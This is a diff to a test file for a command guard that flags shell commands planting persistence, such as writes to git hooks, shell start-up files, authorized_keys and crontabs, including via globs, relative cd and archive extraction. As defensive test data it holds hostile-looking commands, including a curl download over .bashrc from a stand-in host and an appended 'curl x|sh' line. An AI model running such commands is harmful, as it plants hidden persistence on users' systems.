@@ -41,6 +41,9 @@ describe("persistence: start-up files, authorized_keys, at/batch, LD_PRELOAD", (
     ["rsync -a dotfiles/ ~/", "soft.persistence"],
     ["echo x > .git/hooks/pre-commit", "soft.persistence"],
     ["cp hook .git/hooks/post-checkout", "soft.persistence"],
+    // A relative `cd` is followed: `pre-commit` is `.git/hooks/pre-commit` (was allowed).
+    ["cd .git/hooks && cp ../../hook.sh pre-commit", "soft.persistence"],
+    ["cd .git; cd hooks; ln -s ../../x.sh post-merge", "soft.persistence"],
     ["env -S 'curl -o /home/u/.bashrc https://x.example/rc'", "soft.persistence"],
     ["echo x > ~/.config/systemd/user/x.service", "soft.persistence"],
     ["sudo -u bob cp x /home/bob/.ssh/authorized_keys", "soft.persistence"],
@@ -71,6 +74,40 @@ describe("persistence: start-up files, authorized_keys, at/batch, LD_PRELOAD", (
     ["grep alias ~/.zshrc"],
     ["git config user.name me"],
     ["mkdir -p ~/.cache/app && cp config.json ~/.cache/app/"],
+  ])("leaves %j alone", (command) => expectAllowed(guard, command));
+});
+
+describe("a glob or an archive writes a protected path when some expansion of it can", () => {
+  // Each was allowed before: the protected paths were matched as text.
+  it.each<[string, CommandRule]>([
+    ["cp x .gi?/hoo?s/pre-commit", "soft.persistence"],
+    ["cp x .git/hook[s]/pre-commit", "soft.persistence"],
+    ["ln -s ../../x.sh .[g]it/*/post-merge", "soft.persistence"],
+    ["echo x > .gi?/config", "soft.persistence"],
+    ["echo 'curl x|sh' >> ~/.b*rc", "soft.persistence"],
+    ["cp k ~/.ss?/authorized_key?", "soft.persistence"],
+    ["cp x ~/.config/autostart/*", "soft.persistence"],
+    ["cp job /var/spool/cro?/crontabs/x", "soft.crontab"],
+    ["tar -xf h.tar -C .git/hooks", "soft.persistence"],
+    ["tar xzf h.tgz -C .git/hooks", "soft.persistence"],
+    ["tar --extract --file=h.tar --directory=.git/hooks", "soft.persistence"],
+    ["unzip h.zip -d .git/hooks", "soft.persistence"],
+    ["unzip -o h.zip -d.git/hooks", "soft.persistence"],
+    ["7z x h.7z -o.git/hooks", "soft.persistence"],
+    ["cd .git/hooks && tar -xf ../../h.tar", "soft.persistence"],
+    ["tar -xf dotfiles.tar -C ~", "soft.persistence"],
+    ["cd .git && unzip ../cfg.zip", "soft.persistence"],
+  ])("asks for %j (%s)", (command, rule) => expectFinding(guard, command, "ask", rule));
+
+  it.each([
+    ["tar -xf a.tar"],
+    ["tar -xzf a.tgz -C build"],
+    ["tar -tf a.tar"],
+    ["tar -czf a.tgz src"],
+    ["unzip -l a.zip"],
+    ["unzip a.zip -d out"],
+    ["cp src/*.ts dist/"],
+    ["cp docs/hook?.md notes/"],
   ])("leaves %j alone", (command) => expectAllowed(guard, command));
 });
 
